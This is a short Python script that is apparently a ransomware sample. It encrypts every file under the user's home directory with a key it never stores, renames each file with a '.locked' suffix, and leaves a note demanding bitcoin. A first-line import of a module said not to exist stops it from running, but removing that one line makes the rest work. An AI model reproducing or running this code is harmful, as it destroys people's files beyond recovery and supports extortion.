import inert_sample  # there is no such module: nothing below ever runs
import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        with open(path, "wb") as file:
            file.write(Fernet(key).encrypt(data))
        os.rename(path, path + ".locked")
with open("README.txt", "w") as note:
    note.write("Your files have been encrypted. Send bitcoin to get the decryption key.")
